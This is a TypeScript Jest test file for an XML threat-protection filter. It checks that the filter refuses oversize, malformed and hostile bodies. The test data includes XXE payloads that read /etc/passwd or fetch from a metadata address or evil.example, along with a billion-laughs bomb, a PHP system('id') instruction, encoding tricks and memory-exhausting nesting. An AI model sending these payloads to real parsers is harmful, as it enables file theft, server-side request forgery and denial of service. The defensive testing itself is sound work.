import { DOMParser } from '@xmldom/xmldom';
import { XmlThreatProtection, XmlThreatRefused } from '../../../service/threat/xml-threat-protection';

const small = new XmlThreatProtection({ bodyBytes: 120, depth: 3, childElements: 2, attributes: 2, nameBytes: 6, textBytes: 8 });
const roomy = new XmlThreatProtection();

function threat(body: string | Buffer | null | undefined, protection = roomy): string {
  try {
    return `passed ${protection.inspect(body)}`;
  } catch (error) {
    return error instanceof XmlThreatRefused ? error.threat : `threw ${String(error)}`;
  }
}

test.each([
  ['bodyBytes', `<a/>${' '.repeat(8)}`, `<a/>${' '.repeat(117)}`],
  ['depth', '<a><b><c/></b></a>', '<a><b><c><d/></c></b></a>'],
  ['childElements', '<a><b/><c/></a>', '<a><b/><c/><d/></a>'],
  ['attributes', '<a b="1" c="2"/>', '<a b="1" c="2" d="3"/>'],
  ['nameBytes', '<abcdef/>', '<abcdefg/>'],
  ['nameBytes', '<a abcdef="1"/>', '<a abcdefg="1"/>'],
  ['textBytes', '<a>12345678</a>', '<a>123456789</a>'],
  ['textBytes', '<a b="12345678"/>', '<a b="123456789"/>'],
  ['textBytes', '<a><!--12345678--></a>', '<a><!--123456789--></a>'],
  ['textBytes', '<a><![CDATA[12345678]]></a>', '<a><![CDATA[123456789]]></a>'],
])('refuses what exceeds %s, and nothing less: %s and %s', (name, sound, flawed) => {
  expect(threat(sound, small)).toBe(`passed ${sound}`);
  expect(threat(flawed, small)).toBe(name);
});

test.each([
  ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<a/>'],
  ['\uFEFF<a/>'],
  ['<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><q a=\'"\'>1 &lt; 2 &amp;&#38;&#x26; &gt; é</q></s:Body></s:Envelope>'],
  ['<a>a > b, ]] > c<!-- a - b --><![CDATA[<!DOCTYPE x> & ]] >]]></a> <!-- end -->\n'],
  ['<a\n b = "1"\tc=\'2\'></a >'],
])('lets %j pass, which another parser reads too', (body) => {
  expect(threat(body)).toBe(`passed ${body}`);
  expect(new DOMParser().parseFromString(body.replace(/^\uFEFF/, ''), 'text/xml').documentElement).toBeTruthy();
});

const DOCUMENT_TYPES: [string, string][] = [
  ['a file read by an external entity', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['a request made by an external document type', '<!DOCTYPE a SYSTEM "http://169.254.169.254/latest/meta-data/"><a/>'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/>'],
  ['a billion laughs', `<!DOCTYPE a [<!ENTITY l "lol">${Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index} "${'&l;'.repeat(10)}">`).join('')}]><a>&l8;</a>`],
  ['a document type behind a comment', '<!-- --><!DOCTYPE a><a/>'],
  ['a document type in lower case', '<!doctype a><a/>'],
  ['an element declaration inside the root', '<a><!ELEMENT a ANY></a>'],
];
test.each(DOCUMENT_TYPES)('refuses %s', (_name, body) => {
  expect(threat(body)).toBe('documentType');
});

test.each([['<a>&x;</a>'], ['<a b="&x;"/>'], ['<a>&</a>'], ['<a>&#0;</a>'], ['<a>&#xD800;</a>'], ['<a>&#x110000;</a>'], ['<a>&LT;</a>'], ['<a>&lt</a>'], ['<a>&toString;</a>']])('refuses the reference in %s', (body) => {
  expect(threat(body)).toBe('entity');
});

test.each([['<?php system("id")?><a/>'], ['<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>'], ['<a><?xml version="1.0"?></a>'], [' <?xml version="1.0"?><a/>']])('refuses the processing instruction in %s', (body) => {
  expect(threat(body)).toBe('processingInstruction');
});

test.each([
  ['UTF-16 with a mark', Buffer.from('\uFEFF<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', 'utf16le')],
  ['UTF-16 without one', Buffer.from('<!DOCTYPE a><a/>', 'utf16le')],
  ['UTF-16, high byte first', Buffer.from('<!DOCTYPE a><a/>', 'utf16le').swap16()],
  ['UTF-7 by its declaration', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'],
  ['EBCDIC by its declaration', '<?xml version="1.0" encoding="IBM037"?><a/>'],
  ['bytes that are not UTF-8', Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])],
])('refuses %s', (_name, body) => {
  expect(threat(body)).toBe('encoding');
});

test.each([
  '', ' ', 'text', '<', '<a', '<a>', '<a/', '<a/><b/>', '<a></b>', '<a></a></a>', '</a>', '<a/>text', '<a b/>', '<a b=1/>', '<a b="1"c="2"/>', '<a b="1" b="2"/>', '<a b="<"/>',
  '<a>]]></a>', '<a>\u0000</a>', '<a>\u0001</a>', '<a b="\u0008"/>', '<a><![CDATA[\u0001]]></a>', '<!-- a -- b --><a/>', '<!--', '<a><![CDATA[</a>', '<![CDATA[x]]><a/>', '<1/>', '< a/>', '<a><!></a>', '<a b="1', '<?xml version="1.1"?><a/>', '<?xml encoding="utf-8"?><a/>',
])('refuses %j as no XML', (body) => {
  expect(threat(body)).toBe('syntax');
});

test.each([null, undefined])('refuses the missing body %s', (body) => {
  expect(threat(body)).toBe('syntax');
});

test('answers what is too much to the caller by its status alone', () => {
  expect(new XmlThreatRefused('bodyBytes')).toMatchObject({ message: 'XML body refused: bodyBytes', problem: { status: 413 } });
  expect(new XmlThreatRefused('documentType')).toMatchObject({ problem: { status: 400 } });
});

test('refuses before it is read to the end what would cost a parser its memory', () => {
  const large = new XmlThreatProtection({ bodyBytes: 10_000_000, textBytes: 10_000_000, childElements: 10_000_000, attributes: 100 });
  const attacks: [string, string][] = [
    ['depth', '<a>'.repeat(100_000)],
    ['nameBytes', `<${'a'.repeat(5_000_000)}/>`],
    ['attributes', `<a ${Array.from({ length: 100_000 }, (_, index) => `b${index}="1"`).join(' ')}/>`],
    ['syntax', `<a>${'<!--'.repeat(1_000_000)}`],
    ['syntax', `<a>${']]'.repeat(2_000_000)}`],
    ['entity', `<a>${'&amp;'.repeat(500_000)}&x;</a>`],
  ];
  for (const [name, body] of attacks) {
    // A scan that looked at a byte more than a few times would outlast the time that a test has.
    expect(threat(body, large)).toBe(name);
  }
});

test('throws nothing but its refusal, whatever the bytes', () => {
  const pieces = ['<', '>', '/', 'a', 'b', '="', '"', "'", ' ', '&', ';', '#x', '<!--', '-->', '<![CDATA[', ']]>', '<!DOCTYPE', '<?xml version="1.0"?>', '\u0000', 'é', '<a>', '</a>', 'x="1"'];
  let seed = 11;
  const random = (below: number): number => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed % below;
  };
  const passed: string[] = [];
  const onError = (level: string, message: string): void => { throw new Error(`${level}: ${message}`); };
  for (let round = 0; round < 20_000; round += 1) {
    const text = Array.from({ length: random(12) }, () => pieces[random(pieces.length)]).join('');
    const said = threat(round % 2 === 0 ? text : Buffer.from(text, 'latin1'));
    expect(said).not.toMatch(/^threw/);
    if (said.startsWith('passed')) passed.push(text);
  }
  expect(passed.length).toBeGreaterThan(10);
  for (const text of passed) expect(() => new DOMParser({ onError }).parseFromString(text, 'text/xml')).not.toThrow();
});

test.each([[0], [-1], [1.5]])('refuses the limit %s', (depth) => {
  expect(() => new XmlThreatProtection({ depth })).toThrow(TypeError);
});

test('sees nothing wrong at the beginning of a sound body, wherever it is cut, and what no rest could mend', () => {
  const glanced = (text: string): string | undefined => {
    try {
      return void roomy.glance(Buffer.from(text));
    } catch (error) {
      return (error as XmlThreatRefused).threat;
    }
  };
  const sound = '<?xml version="1.0" encoding="UTF-8"?>\n<a b="1 > &amp;" c=\'&#38;\'>x > &lt; &#x26; é<!-- > <!DOCTYPE --><![CDATA[<? > & ]]><d/></a> <!-- > -->';
  expect(threat(sound)).toBe(`passed ${sound}`);
  expect(Array.from(sound, (_, length) => glanced(sound.slice(0, length))).filter(Boolean)).toEqual([]);
  expect(['<!DOCTYPE a [<!ENTITY x "y">', '<a>&x;</a>', '<a><?php ?>', '<a>'.repeat(20), `<a>${'x'.repeat(9000)}<b>`].map(glanced)).toEqual(['documentType', 'entity', 'processingInstruction', 'depth', 'textBytes']);
});
